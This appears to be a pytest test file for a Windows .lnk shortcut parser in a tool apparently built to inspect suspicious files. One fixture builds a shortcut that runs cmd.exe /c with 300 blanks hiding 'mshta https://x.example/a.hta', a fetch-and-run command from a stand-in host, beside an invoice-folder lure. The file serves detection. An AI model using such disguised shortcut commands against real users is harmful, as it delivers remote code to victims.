"""Windows shortcuts, written here."""

from __future__ import annotations

import struct

import pytest

from gyotaku.observe.shortcuts import read_shortcut

HEAD = bytes.fromhex("4c0000000114020000000000c000000000000046")


def shortcut(target: str = "", arguments: str = "", *, environment: str = "", share: str = "", relative: str = "") -> bytes:
    """Write a .lnk file ([MS-SHLLINK]) with wide strings."""
    flags = 0x80 | (0x2 if target or share else 0) | (0x8 if relative else 0) | (0x20 if arguments else 0) | 0x1
    out = (HEAD + struct.pack("<I", flags)).ljust(76, b"\0") + struct.pack("<H", 4) + b"\0" * 4
    if target:
        path = target.encode("cp932") + b"\0"
        out += struct.pack("<7I", 28 + len(path) + 1, 28, 1, 0, 28, 0, 28 + len(path)) + path + b"\0"
    if share:
        name = share.encode("ascii") + b"\0"
        network = struct.pack("<5I", 20 + len(name), 2, 20, 0, 0x20000) + name
        end = 28 + len(network)
        out += struct.pack("<7I", end + 6, 28, 2, 0, 0, 28, end) + network + b"a.exe\0"
    for text in (relative, arguments):
        if text:
            out += struct.pack("<H", len(text)) + text.encode("utf-16-le")
    if environment:
        out += struct.pack("<II", 788, 0xA0000001) + environment.encode("ascii").ljust(260, b"\0")
        out += environment.encode("utf-16-le").ljust(520, b"\0")
    return out + bytes(4)


def test_target_and_arguments() -> None:
    """The program with what it is given; hundreds of blanks that push the command out of sight are one."""
    found = read_shortcut(shortcut(r"C:\Windows\System32\cmd.exe", "/c" + " " * 300 + "mshta https://x.example/a.hta"))
    assert found.line == r"C:\Windows\System32\cmd.exe /c mshta https://x.example/a.hta"
    assert found.urls == ("https://x.example/a.hta",)


def test_other_places_of_the_target() -> None:
    """A share, a relative path, a path with variables, a Japanese folder."""
    assert read_shortcut(shortcut(share=r"\\192.0.2.1\s")).target == r"\\192.0.2.1\s\a.exe"
    assert read_shortcut(shortcut(relative=r"..\x.exe")).target == r"..\x.exe"
    assert read_shortcut(shortcut(r"C:\a.exe", environment=r"%windir%\b.exe")).target == r"%windir%\b.exe"
    assert read_shortcut(shortcut("C:\\請求書\\a.exe")).target == "C:\\請求書\\a.exe"


@pytest.mark.parametrize("at", range(0, 220, 5))
def test_broken_shortcuts(at: int) -> None:
    """A file cut anywhere, or with lengths that lie, gives what can be read."""
    whole = shortcut(r"C:\a.exe", "/c x", environment="%x%")
    assert len(read_shortcut(whole[:at]).line) < 100
    assert len(read_shortcut(whole[:at] + b"\xff" * 90).line) < 1_000
